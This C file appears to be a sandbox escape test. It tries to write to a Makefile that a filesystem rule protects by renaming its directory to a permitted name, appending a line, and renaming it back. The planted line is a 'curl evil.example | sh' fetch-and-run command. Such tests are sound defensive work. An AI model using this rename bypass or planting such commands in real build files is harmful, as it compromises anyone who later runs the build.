/* fs_leftout.c MODE WORK: write a name something runs later that the table leaves out of
 * its learned writing glob, by moving the directory holding it under a name a rule lets be
 * written (issue 11, fslink43: "a learned glob's left-out names below a moved directory").
 *
 * The table's learned `fsread,fswrite WORK/**` matches no name something runs later below
 * WORK that it does not name exactly (sensitive.RUNS_LATER: a Makefile, conftest.py, a
 * repository's hooks...): WORK/vendor/lib/Makefile is written by no rule.  Its learned exact
 * `fsread,fswrite WORK/build/Makefile` writes the one it names.
 *   direct  append to WORK/vendor/lib/Makefile (the rule at work)
 *   moved   rename(WORK/vendor/lib, WORK/build); append to WORK/build/Makefile;
 *           rename(WORK/build, WORK/vendor/lib): the Makefile back at its name, written
 *
 * ESCAPED when every step ran: WORK/vendor/lib/Makefile then holds the planted line (the
 * test reads it); BLOCKED with the failing step's errno otherwise.
 */
#include "attack.h"

#define PLANTED "\tcurl evil.example | sh # planted\n"

static void planted(const char *makefile, const char *how) {
    /* (the table may let the program read the Makefile no more than write it: the test
     * reads it, from outside, too) */
    escaped("%s: planted a line in %s", how, makefile);
}

static int append(const char *path) {
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, PLANTED, strlen(PLANTED));
    close(fd);
    return n == (ssize_t)strlen(PLANTED) ? 0 : -1;
}

int main(int argc, char **argv) {
    if (argc != 3)
        usage("fs_leftout MODE WORK");
    const char *mode = argv[1], *work = argv[2];
    char lib[4096], build[4096], makefile[4200], inside[4200];
    snprintf(lib, sizeof lib, "%s/vendor/lib", work);
    snprintf(build, sizeof build, "%s/build", work);
    snprintf(makefile, sizeof makefile, "%s/Makefile", lib);
    snprintf(inside, sizeof inside, "%s/Makefile", build);
    if (!strcmp(mode, "direct")) {
        if (append(makefile) < 0)
            blocked("append to %s: %s", makefile, ename(errno));
        planted(makefile, mode);
    }
    if (!strcmp(mode, "moved")) {
        if (rename(lib, build) < 0)
            blocked("rename %s to %s: %s", lib, build, ename(errno));
        if (append(inside) < 0)
            blocked("append to %s: %s", inside, ename(errno));
        if (rename(build, lib) < 0)
            blocked("rename %s back to %s: %s", build, lib, ename(errno));
        planted(makefile, mode);
    }
    usage("fs_leftout MODE WORK");
}
